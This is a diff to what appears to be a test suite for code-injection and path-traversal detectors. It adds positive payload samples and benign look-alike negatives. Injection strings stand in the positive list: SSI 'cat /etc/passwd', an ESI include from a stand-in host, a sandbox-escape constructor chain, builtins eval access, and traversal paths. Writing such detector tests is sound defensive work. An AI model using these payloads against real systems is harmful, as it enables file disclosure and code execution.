@@ -98,6 +98,10 @@ POSITIVES = [
     (code_injection, "server side include", '<!--#exec cmd="cat /etc/passwd" -->'),
     (code_injection, "edge side include", '<esi:include src="http://evil.test/x"/>'),
     (code_injection, "constructor chain", "[].constructor.constructor('return process')()"),
+    (code_injection, "spaced call after a separator", ";system ('cat /etc/hosts')"),
+    (code_injection, "spaced call closed by a semicolon", "passthru ('uname -a');"),
+    (code_injection, "dunder as an argument", "getattr(__builtins__,'eval')('2*3')"),
+    (code_injection, "dunder walk from a literal", "().__class__.__base__"),
     # path_traversal
     (path_traversal, "plain dot-dot", "../../../../etc/passwd"),
     (path_traversal, "windows backslashes", "..\\..\\windows\\win.ini"),
@@ -282,6 +286,10 @@ NEGATIVES = [
     "ISBN 978-3-16-148410-0",
     "id",
     "env",
+    "Our system ('Atlas') is down",
+    'Restart the system ("Atlas") tonight',
+    "My favourite passthru ('the tunnel') is closed",
+    "Add an __init__ method; see pkg/__init__.py",
 ]
 
 DETECTORS_UNDER_TEST = [
